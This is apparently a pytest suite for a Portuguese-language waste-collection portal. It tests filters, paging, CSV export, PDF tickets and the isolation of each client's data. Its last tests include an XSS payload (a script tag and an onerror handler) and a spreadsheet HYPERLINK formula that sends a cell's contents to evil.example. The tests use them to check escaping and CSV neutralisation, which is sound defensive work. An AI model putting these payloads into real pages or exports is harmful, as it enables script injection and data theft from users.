"""/coletas over HTTP: filters, paging, summary, CDF, CSV, ticket, photos, and isolation."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import coletas_samples as cs
import import_samples as s
import pytest
from bs4 import BeautifulSoup
from litestar.testing import TestClient
from pypdf import PdfReader
from support import HX, call, login, seed_and_log_in, soup

from espaco.services.collections import coletas as coletas_service
from espaco.tables import Certificate, Collection, CollectionPhoto, Location
from espaco.web.downloads import csv_cell

PERIOD = {"inicio": "2026-09-01", "fim": "2026-11-30"}


def rows(page: BeautifulSoup) -> list[list[str]]:
    table = page.select_one("#coletas-tabela")
    if table is None:
        return []
    return [
        [td.get_text(" ", strip=True) for td in tr.select("td")]
        for tr in table.select("tbody:not(#carregar-mais) tr")
    ]


def standard_doc() -> dict:
    """CLI-1: four collections, one per situação, over two places; CLI-2: one of its own."""
    return s.document(
        clients=cs.clients(),
        collections=[
            cs.with_photos(cs.collection(1, performed_at="2026-10-05T09:32:00-03:00")),
            cs.collection(
                2, status="done", performed_at="2026-10-20T14:00:00-03:00", quantity="2.35",
                unit="t", location="LOC-3", mtr_number="260010679502", mtr_status="Salvo",
            ),
            cs.collection(
                3, status="scheduled", scheduled_on="2026-11-20", performed_at=None,
                quantity=None, unit=None, mtr_number=None, mtr_status=None, received_by="",
                received_by_cpf=None, notes="",
            ),
            cs.collection(4, status="cancelled", scheduled_on="2026-09-10", performed_at=None,
                          received_by="", received_by_cpf=None, mtr_number=None,
                          mtr_status=None, notes="Cliente fechado"),
            cs.with_photos(cs.collection(9, "CLI-2", "LOC-2"), 1),
        ],
        certificates=[
            s.certificate(
                1, "CLI-1", mtr_numbers=["260010679501"],
                pdf={"base64": "JVBERi0xLjQKJSVFT0YK", "content_type": "application/pdf"},
            ),
            s.certificate(2, "CLI-2", mtr_numbers=["260010679509"],
                          pdf={"base64": "JVBERi0xLjQKJSVFT0YK",
                               "content_type": "application/pdf"}),
        ],
    )  # fmt: skip


@pytest.fixture
def seeded(web: TestClient) -> TestClient:
    return seed_and_log_in(web, standard_doc())


async def _ids() -> dict[str, int]:
    return {
        r["external_id"]: r["id"]
        for r in await Collection.select(Collection.id, Collection.external_id)
    }


def ids(web) -> dict[str, int]:
    return call(web, _ids)


def test_coletas_requires_login(web):
    response = web.get("/coletas", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"] == "/entrar?volta=%2Fcoletas"


def test_the_page_lists_every_situacao_with_badges_tickets_and_mtr(seeded):
    page = soup(seeded.get("/coletas", params=PERIOD))
    assert page.select_one('nav a[href="/coletas"][aria-current="page"]')
    table = rows(page)
    assert [r[0] for r in table] == ["20/11/2026", "20/10/2026", "05/10/2026", "10/09/2026"]
    by_date = {r[0]: r for r in table}
    assert by_date["20/10/2026"][1] == "Filial Norte"
    assert "2,35 t" in by_date["20/10/2026"][4]
    assert "260010679502 Salvo" in by_date["20/10/2026"][6]
    assert "Classe II-B" in by_date["05/10/2026"][3]
    badges = [b.text for b in page.select("#coletas-tabela .selo:not(a)")]
    assert badges == ["Agendada", "Realizada", "Validada", "Cancelada"]
    tickets = page.select('#coletas-tabela a[href$="/ticket.pdf"]')
    assert len(tickets) == 2  # realizada and validada only
    assert "Cliente 2" not in page.text and "COL-9" not in page.text


def test_summary_counts_by_situacao_quantities_by_unit_and_a_month_chart(seeded):
    page = soup(seeded.get("/coletas", params=PERIOD))
    cards = {c.select_one(".dica").text: c.strong.text for c in page.select(".cartoes .cartao")}
    assert cards == {"Coletas": "4", "Agendada": "1", "Realizada": "1", "Validada": "1",
                     "Cancelada": "1"}  # fmt: skip
    assert "5 m³" in page.text and "2,35 t" in page.text and "m3" not in page.text
    bars = page.select("div.grafico svg rect")
    assert len(bars) == 3  # september, october, november
    titles = [t.text for t in page.select("div.grafico svg g > title")]
    assert titles == ["set/2026: 1 coleta", "out/2026: 2 coletas", "nov/2026: 1 coleta"]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"situacao": "agendada"}, ["20/11/2026"]),
        ({"situacao": "realizada"}, ["20/10/2026"]),
        ({"situacao": "validada"}, ["05/10/2026"]),
        ({"situacao": "cancelada"}, ["10/09/2026"]),
        ({"inicio": "2026-10-01", "fim": "2026-10-31"}, ["20/10/2026", "05/10/2026"]),
        ({"inicio": "2026-10-05", "fim": "2026-10-05"}, ["05/10/2026"]),
        ({"local": "LOC"}, None),
        ({"situacao": "realizada", "inicio": "2026-10-01", "fim": "2026-10-10"}, []),
    ],
)
def test_each_filter_and_combinations(seeded, params, expected):
    response = seeded.get("/coletas", params={**PERIOD, **params})
    if expected is None:
        assert response.status_code == 422
        return
    assert response.status_code == 200
    assert [r[0] for r in rows(soup(response))] == expected


def test_place_filter_takes_only_the_clients_own_places(seeded):
    places = call(seeded, lambda: Location.select(Location.id, Location.external_id))
    place = {p["external_id"]: p["id"] for p in places}
    own = seeded.get("/coletas", params={**PERIOD, "local": place["LOC-3"]})
    assert [r[0] for r in rows(soup(own))] == ["20/10/2026"]
    combined = seeded.get(
        "/coletas", params={**PERIOD, "local": place["LOC-1"], "situacao": "validada"}
    )
    assert [r[0] for r in rows(soup(combined))] == ["05/10/2026"]
    options = [o.text for o in soup(own).select("#local option")]
    assert options == ["Todos os locais", "Filial Norte", "Matriz"]
    other = seeded.get("/coletas", params={**PERIOD, "local": place["LOC-2"]})
    assert other.status_code == 422 and rows(soup(other)) == []
    assert "Local não encontrado" in other.text


def test_bad_dates_are_reported_with_422(seeded):
    response = seeded.get("/coletas", params={"inicio": "2026-13-01"})
    assert response.status_code == 422
    assert soup(response).select_one("#erro-periodo")
    reversed_ = seeded.get("/coletas", params={"inicio": "2026-11-01", "fim": "2026-10-01"})
    assert reversed_.status_code == 422


def test_default_period_is_the_last_90_days(web):
    today = datetime.now(ZoneInfo("America/Sao_Paulo")).date()
    recent = (today - timedelta(days=5)).isoformat()
    old = (today - timedelta(days=120)).isoformat()
    doc = s.document(
        clients=cs.clients(),
        collections=[
            cs.collection(1, performed_at=f"{recent}T10:00:00-03:00", scheduled_on=recent),
            cs.collection(2, performed_at=f"{old}T10:00:00-03:00", scheduled_on=old),
        ],
    )
    call(web, cs.seed, web.app.state.settings, doc)
    login(web)
    page = soup(web.get("/coletas"))
    assert len(rows(page)) == 1
    assert page.select_one("#inicio")["value"] == (today - timedelta(days=89)).isoformat()


def test_empty_states(seeded):
    page = soup(seeded.get("/coletas", params={"inicio": "2020-01-01", "fim": "2020-01-31"}))
    assert page.select_one("#coletas-tabela") is None
    assert "Nenhuma coleta neste período" in page.text
    assert page.select_one("div.grafico") is None


def test_htmx_filter_gets_only_the_results_fragment(seeded):
    response = seeded.get("/coletas", params={**PERIOD, "situacao": "validada"}, headers=HX)
    assert response.status_code == 200
    fragment = soup(response)
    assert fragment.select_one("section#coletas-resultado")
    assert fragment.select_one("header") is None and fragment.select_one("form") is None
    assert "HX-Request" in response.headers["vary"]


def _many(n: int, day0: date = date(2026, 11, 1)) -> list[dict]:
    return [
        cs.collection(
            100 + i,
            performed_at=f"{(day0 - timedelta(days=i // 3)).isoformat()}T10:00:00-03:00",
            scheduled_on=(day0 - timedelta(days=i // 3)).isoformat(),
            mtr_number=None,
            mtr_status=None,
        )  # fmt: skip
        for i in range(n)
    ]


@pytest.mark.parametrize(("count", "pages"), [(50, 1), (51, 2), (100, 2), (101, 3)])
def test_paging_edges_walk_every_row_once(web, count, pages):
    doc = s.document(clients=cs.clients(), collections=_many(count))
    call(web, cs.seed, web.app.state.settings, doc)
    login(web)
    params = {"inicio": "2026-01-01", "fim": "2026-12-31"}
    seen: list[str] = []
    url: str | None = "/coletas?" + "&".join(f"{k}={v}" for k, v in params.items())
    walked = 0
    while url:
        walked += 1
        headers = HX if walked > 1 else {}
        page = soup(web.get(url, headers=headers))
        links = page.select('tbody:not(#carregar-mais) tr a[href$="/ticket.pdf"]')
        seen += [a["aria-label"] for a in links]  # each link names its ticket
        more = page.select_one("#carregar-mais a")
        url = more["href"] if more else None
        if more:
            assert more["hx-get"] == more["href"] and "pagina=" in more["href"]
    assert walked == pages
    expected = [f"PDF do ticket COL-{100 + i}" for i in range(count)]
    assert sorted(seen) == sorted(expected) and len(seen) == count


def test_next_page_without_javascript_is_a_whole_page(web):
    doc = s.document(clients=cs.clients(), collections=_many(60))
    call(web, cs.seed, web.app.state.settings, doc)
    login(web)
    first = soup(web.get("/coletas", params={"inicio": "2026-01-01", "fim": "2026-12-31"}))
    link = first.select_one("#carregar-mais a")["href"]
    second = soup(web.get(link))
    assert second.select_one("header") and second.select_one("form.filtros")
    assert len(rows(second)) == 10 and second.select_one("#carregar-mais") is None
    assert "Voltar ao início da lista" in second.text


def test_certificates_are_listed_and_linked_from_their_collections(seeded):
    page = soup(seeded.get("/coletas", params=PERIOD))
    certs = page.select('section[aria-labelledby="cdf-titulo"] tbody tr')
    assert len(certs) == 1
    cells = [td.get_text(" ", strip=True) for td in certs[0].select("td")]
    assert cells[:5] == ["0001/2026", "05/11/2026", "01/10/2026 a 31/10/2026",
                         "Aterro Sanitário Exemplo Ltda", "1 MTR"]  # fmt: skip
    cert_id = certs[0]["id"].removeprefix("cdf-")
    detail_url = f"/coletas/cdf/{cert_id}/mtrs"
    assert certs[0].select_one("td:nth-of-type(5) a")["hx-get"] == detail_url
    assert page.select_one(f'#coletas-tabela a[href="{detail_url}"]')["aria-label"] == (
        "CDF do MTR 260010679501"
    )
    download = seeded.get(certs[0].select_one("a[download]")["href"])
    assert download.status_code == 200 and download.content.startswith(b"%PDF-")
    assert "cdf-0001-2026.pdf" in download.headers["content-disposition"]


def test_a_certificate_lists_its_mtrs_with_their_tickets_in_place_or_on_its_page(seeded):
    cert_id = call(seeded, _certificate_id, "CDF-1")
    fragment = seeded.get(f"/coletas/cdf/{cert_id}/mtrs", headers=HX)
    assert fragment.status_code == 200
    part = soup(fragment)
    assert part.select_one("header") is None and part.select_one("section#cdf-detalhe")
    mtrs = [[td.get_text(strip=True) for td in tr.select("td")] for tr in part.select("tbody tr")]
    assert mtrs == [["260010679501", "PDF"]]
    ticket = seeded.get(part.select_one('a[href$="/ticket.pdf"]')["href"])
    assert ticket.status_code == 200 and ticket.content.startswith(b"%PDF-")
    whole = soup(seeded.get(f"/coletas/cdf/{cert_id}/mtrs"))
    assert whole.select_one("header") and whole.select_one("h2").text == "CDF nº 0001/2026"


def test_only_the_certificates_that_meet_the_period_are_listed(seeded):
    outside = soup(seeded.get("/coletas", params={"inicio": "2026-11-01", "fim": "2026-11-30"}))
    assert outside.select('section[aria-labelledby="cdf-titulo"] tbody tr') == []
    assert "Nenhum certificado cobre este período." in outside.text
    edge = soup(seeded.get("/coletas", params={"inicio": "2026-10-31", "fim": "2026-11-30"}))
    assert len(edge.select('section[aria-labelledby="cdf-titulo"] tbody tr')) == 1


async def _certificate_id(external_id: str) -> int:
    rows = await Certificate.select(Certificate.id).where(Certificate.external_id == external_id)
    return rows[0]["id"]


def test_csv_export_reads_back_in_excel_brazilian_form(seeded):
    response = seeded.get("/coletas/exportar", params={**PERIOD, "situacao": ""})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert table[0][:3] == ["Data", "Local", "Serviço"]
    body = {r[0]: r for r in table[1:]}
    assert list(body) == ["20/11/2026", "20/10/2026", "05/10/2026", "10/09/2026"]
    assert body["20/10/2026"][5] == "2,35" and body["20/10/2026"][6] == "t"
    assert body["20/10/2026"][7] == "Realizada" and body["20/10/2026"][8] == "260010679502"
    assert body["05/10/2026"][3] == "Resíduo de construção civil"
    filtered = seeded.get("/coletas/exportar", params={**PERIOD, "situacao": "cancelada"})
    lines = list(csv.reader(io.StringIO(filtered.content.decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in lines[1:]] == ["10/09/2026"]


def test_ticket_opens_inline_with_its_number_and_is_cached(seeded):
    ident = ids(seeded)["COL-1"]
    response = seeded.get(f"/coletas/{ident}/ticket.pdf")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == 'inline; filename="ticket-COL-1.pdf"'
    reader = PdfReader(io.BytesIO(response.content))
    text = "\n".join(p.extract_text() for p in reader.pages)
    assert "COL-1" in text and "Verde Campo Ambiental Ltda" in text
    assert sum(len(p.images) for p in reader.pages) == 5  # four photos and the signature
    cached = list((seeded.app.state.settings.data_dir / "cache" / "tickets").glob("*.pdf"))
    assert len(cached) == 1
    assert seeded.get(f"/coletas/{ident}/ticket.pdf").content == response.content


def test_a_change_to_the_collection_renders_a_new_ticket(seeded):
    ident = ids(seeded)["COL-2"]
    first = seeded.get(f"/coletas/{ident}/ticket.pdf").content
    doc = s.document(collections=[cs.collection(
        2, status="done", performed_at="2026-10-20T14:00:00-03:00", quantity="2.35", unit="t",
        location="LOC-3", mtr_number="260010679502", mtr_status="Salvo", driver="Outro Motorista",
    )])  # fmt: skip
    call(seeded, cs.seed, seeded.app.state.settings, doc)
    second = seeded.get(f"/coletas/{ident}/ticket.pdf").content
    assert first != second
    assert "Outro Motorista" in PdfReader(io.BytesIO(second)).pages[0].extract_text()


def test_scheduled_and_cancelled_collections_have_no_ticket(seeded):
    known = ids(seeded)
    for external_id in ("COL-3", "COL-4"):
        assert seeded.get(f"/coletas/{known[external_id]}/ticket.pdf").status_code == 404


def test_photos_are_served_to_their_client_only(seeded):
    async def photos():
        return await CollectionPhoto.select(
            CollectionPhoto.id, CollectionPhoto.collection.external_id.as_alias("ext"),
            CollectionPhoto.collection,
        )  # fmt: skip

    found = call(seeded, photos)
    own = next(p for p in found if p["ext"] == "COL-1")
    other = next(p for p in found if p["ext"] == "COL-9")
    response = seeded.get(f"/coletas/{own['collection']}/fotos/{own['id']}")
    assert response.status_code == 200 and response.content[:2] == b"\xff\xd8"
    assert seeded.get(f"/coletas/{other['collection']}/fotos/{other['id']}").status_code == 404
    # Another client's photo under one's own collection id is not found either.
    assert seeded.get(f"/coletas/{own['collection']}/fotos/{other['id']}").status_code == 404


def test_another_clients_collection_ticket_and_cdf_answer_404(seeded):
    other = ids(seeded)["COL-9"]
    assert seeded.get(f"/coletas/{other}/ticket.pdf").status_code == 404
    certs = call(seeded, lambda: Certificate.select(Certificate.id, Certificate.external_id))
    other_cdf = next(c["id"] for c in certs if c["external_id"] == "CDF-2")
    assert seeded.get(f"/coletas/cdf/{other_cdf}").status_code == 404
    assert "COL-9" not in seeded.get("/coletas/exportar", params=PERIOD).text
    assert seeded.get("/coletas/999999/ticket.pdf").status_code == 404


def _cards(page: BeautifulSoup) -> dict[str, str]:
    return {c.select_one(".dica").text: c.strong.text for c in page.select(".cartoes .cartao")}


def test_the_summary_follows_a_new_import_at_once(seeded):
    """The summary is cached per client and data version: an import that changes a collection
    bumps the version (a database trigger), so the next view recomputes it."""
    before = _cards(soup(seeded.get("/coletas", params=PERIOD)))
    assert (before["Realizada"], before["Validada"]) == ("1", "1")
    doc = standard_doc()
    doc["collections"][1]["status"] = "validated"
    call(seeded, cs.seed, seeded.app.state.settings, doc)
    after = _cards(soup(seeded.get("/coletas", params=PERIOD)))
    assert (after["Realizada"], after["Validada"], after["Coletas"]) == ("0", "2", "4")


def test_erp_text_with_markup_is_shown_as_text_in_every_cell(web):
    evil = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'"
    short = "<b>\"'&"  # where the format allows only a few characters
    place = s.location(1, label=f"Local {evil}")
    doc = s.document(
        clients=[s.client(1, locations=[place]), s.client(2)],
        collections=[
            cs.collection(
                1, external_id=f"COL-{short}", service=f"Serviço {evil}",
                waste={"description": f"Resíduo {evil}", "class": f"II {short}"},
                unit=f"t{short}", mtr_number="260010679501", mtr_status=f"Salvo {short}",
                performed_at="2026-10-05T09:32:00-03:00",
            )
        ],
        certificates=[
            s.certificate(1, "CLI-1", mtr_numbers=["260010679501"], number=f"CDF {short}",
                          receiver=f"Aterro {evil}")
        ],
    )  # fmt: skip
    call(web, cs.seed, web.app.state.settings, doc)
    login(web)
    full = soup(web.get("/coletas", params=PERIOD))
    (option,) = full.select("#local option[value]:not([value=''])")
    assert option.get_text() == f"Local {evil}"
    assert full.select("#local script, #local img") == []
    certificates = full.select_one('tr[id^="cdf-"]')
    assert certificates.select("script, img, b") == []
    cells = [td.get_text() for td in certificates.select("td")]
    assert cells[0] == f"CDF {short}"
    assert cells[3] == f"Aterro {evil}"
    assert certificates.select_one("a")["aria-label"] == f"1 MTR do CDF CDF {short}"
    for response in (
        web.get("/coletas", params=PERIOD),
        web.get("/coletas", params=PERIOD, headers=HX),
    ):
        assert response.status_code == 200
        page = soup(response)
        table = page.select_one("#coletas-tabela")
        assert table.select("script, img, b") == []
        assert all(not a.startswith("on") for tag in table.find_all(True) for a in tag.attrs)
        (row,) = rows(page)
        for text in (
            f"Local {evil}",
            f"Serviço {evil}",
            f"Resíduo {evil}",
            f"Classe II {short}",
            f"t{short}",
            f"Salvo {short}",
        ):  # fmt: skip  (MTR numbers are digits)
            assert any(text in cell for cell in row), text
        ticket = table.select_one('a[href$="/ticket.pdf"]')
        assert ticket["aria-label"] == f"PDF do ticket COL-{short}"
        cdf = table.select_one('a[href^="/coletas/cdf/"]')
        assert cdf["aria-label"] == "CDF do MTR 260010679501"


def test_a_cursor_outside_the_period_gives_no_rows_not_an_error(seeded):
    def more(cursor: str) -> list[list[str]]:
        response = seeded.get("/coletas", params={**PERIOD, "pagina": cursor}, headers=HX)
        assert response.status_code == 200
        html = f"<table id='coletas-tabela'>{response.text}</table>"
        return rows(soup(html))

    assert more("2020-01-01.3") == []
    assert len(more("2027-01-01.999999")) == 4


def test_quantity_totals_are_exact_with_a_fallback_for_more_than_three_decimals(web):
    """Totals come from the generated ``quantity_milli`` (thousandths); a quantity it cannot
    hold exactly makes that unit's total come from the texts themselves."""
    collections = [
        cs.collection(1, quantity="0.1", unit="t"),
        cs.collection(2, quantity="0.2", unit="t", performed_at="2026-10-06T09:00:00-03:00"),
        cs.collection(3, quantity="1234567.891", unit="kg", status="done"),
        cs.collection(4, quantity="0.0005", unit="m3"),
        cs.collection(5, quantity="2.0005", unit="m3", status="done"),
        cs.collection(6, quantity="7", unit="un", status="cancelled"),
    ]
    call(web, cs.seed, web.app.state.settings, s.document(clients=cs.clients(),
                                                          collections=collections))  # fmt: skip
    login(web)
    page = soup(web.get("/coletas", params=PERIOD))
    totals = page.find(string=re.compile("Quantidade no período")).find_parent("p").get_text()
    assert "0,3 t" in totals  # not 0.30000000000000004
    assert "1.234.567,891 kg" in totals
    assert "2,0010 m³" in totals  # 0.0005 + 2.0005, summed exactly from the texts
    assert "un" not in totals  # a cancelled collection has no quantity to report


LEADERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("leader", LEADERS)
def test_every_csv_cell_that_could_start_a_formula_is_neutralised(web, leader):
    """The ERP's texts, the ticket number (``external_id``) and the MTR included: a spreadsheet
    would run ``=HYPERLINK(…)`` from any of them."""
    formula = f'{leader}HYPERLINK("http://evil.example/?x="&A1;"Clique")'
    short = f"{leader}1+1"
    place = s.location(1, label=formula)
    doc = s.document(
        clients=[s.client(1, locations=[place]), s.client(2)],
        collections=[
            cs.collection(
                1, external_id=short, service=formula,
                waste={"description": formula, "class": short}, unit=short,
                mtr_number="260010679501", mtr_status=short,
                performed_at="2026-10-05T09:32:00-03:00",
            )
        ],
    )  # fmt: skip
    call(web, cs.seed, web.app.state.settings, doc)
    login(web)
    response = web.get("/coletas/exportar", params=PERIOD)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = dict(zip(header, row, strict=True))
    for column in ("Local", "Serviço", "Resíduo", "Classe", "Unidade", "Situação SINIR", "Ticket"):
        # The import strips a leading tab or CR from texts; the other leaders reach the CSV.
        expected = (
            "'" + leader if leader.strip() else "HYPERLINK" if "Clique" in cells[column] else "1+1"
        )
        assert cells[column].startswith(expected), (column, cells[column])
    assert not any(cell[:1] in LEADERS for cell in row)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+55 11 99999-0000", "'+55 11 99999-0000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("COL-1", "COL-1"),
        ("1=1", "1=1"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_cell_prefixes_only_what_a_spreadsheet_would_run(value, cell):
    assert csv_cell(value) == cell


def test_the_certificate_list_stops_at_its_limit_and_says_so(web, monkeypatch):
    monkeypatch.setattr(coletas_service, "CERTIFICATE_LIMIT", 2)
    doc = s.document(
        clients=cs.clients(),
        certificates=[s.certificate(n, "CLI-1", issued_on=f"2026-11-0{n}") for n in (1, 2, 3)],
    )
    call(web, cs.seed, web.app.state.settings, doc)
    login(web)
    page = soup(web.get("/coletas", params=PERIOD))
    listed = page.select('section[aria-labelledby="cdf-titulo"] tbody tr td:first-child')
    assert [td.get_text() for td in listed] == ["0003/2026", "0002/2026"]
    assert "Mostrando os 2 certificados mais recentes do período" in page.text
